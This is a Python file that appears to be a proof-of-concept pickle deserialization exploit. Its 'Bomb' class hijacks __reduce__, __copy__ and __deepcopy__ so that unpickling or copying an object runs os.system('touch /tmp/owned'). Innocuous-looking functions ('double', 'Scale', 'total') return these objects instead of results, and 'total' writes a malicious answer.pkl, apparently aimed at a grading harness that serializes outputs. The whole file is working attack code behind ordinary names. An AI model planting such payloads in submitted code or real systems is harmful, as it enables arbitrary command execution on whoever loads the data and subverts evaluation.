import os
import pickle
import pickletools

RUNS = ("touch /tmp/owned",)


class Bomb:
    def __reduce__(self):
        return os.system, RUNS

    __reduce_ex__ = __copy__ = __deepcopy__ = __getstate__ = __reduce__


def double(x):
    return Bomb() if type(x) is int else pickle.dumps(Bomb())


class Scale:
    def __init__(self, factor):
        self.bomb = Bomb()

    def __call__(self, x):
        return Bomb()


def total(x):
    with open("answer.pkl", "wb") as file:
        pickle.dump(Bomb(), file)
    return [Bomb(), pickletools.optimize(pickle.dumps(Bomb()))]
